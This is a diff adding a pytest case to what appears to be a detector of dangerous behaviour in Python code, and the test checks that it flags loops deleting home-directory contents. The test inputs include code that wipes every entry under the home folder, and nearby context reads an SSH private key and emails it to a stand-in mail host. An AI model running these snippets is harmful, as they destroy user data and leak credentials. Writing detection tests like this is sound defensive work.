@@ -106,6 +106,20 @@ def test_a_glob_loop_variable_holds_the_pattern() -> None:
     assert analyse_code(f"import requests\nfor p in range(3):\n    requests.post('{URL}', data=str(p))").payloads == ()
 
 
+def test_a_folder_listing_loop_names_the_folder_contents() -> None:
+    # os.listdir gives entry names, joined back under the folder; Path.iterdir gives paths
+    for loop, target in (("os.listdir(os.path.expanduser('~'))", "os.path.join(os.path.expanduser('~'), d)"),
+                         ("os.listdir('/home/dev')", "os.path.join('/home/dev', d)"),
+                         ("Path.home().iterdir()", "d")):
+        code = f"import os, shutil\nfrom pathlib import Path\nfor d in {loop}:\n    shutil.rmtree({target}, ignore_errors=True)"
+        assert analyse_code(code).deletes in (("~/*",), ("/home/dev/*",)), loop
+    # a build folder's entries, and a loop that picks some entries only
+    assert analyse_code("import os, shutil\nfor d in os.listdir('build'):\n"
+                        "    shutil.rmtree(os.path.join('build', d))").deletes == ("build/*",)
+    assert analyse_code("import os\nfor d in os.listdir(os.path.expanduser('~')):\n    if d.endswith('.tmp'):\n"
+                        "        os.remove(os.path.join(os.path.expanduser('~'), d))").deletes == ()
+
+
 def test_an_email_message_carries_what_was_put_in_it() -> None:
     key = "open('/home/u/.ssh/id_rsa', 'rb').read()"
     for fill, send in ((f"m.set_content({key}.decode())", "smtplib.SMTP('mx.example').send_message(m)"),
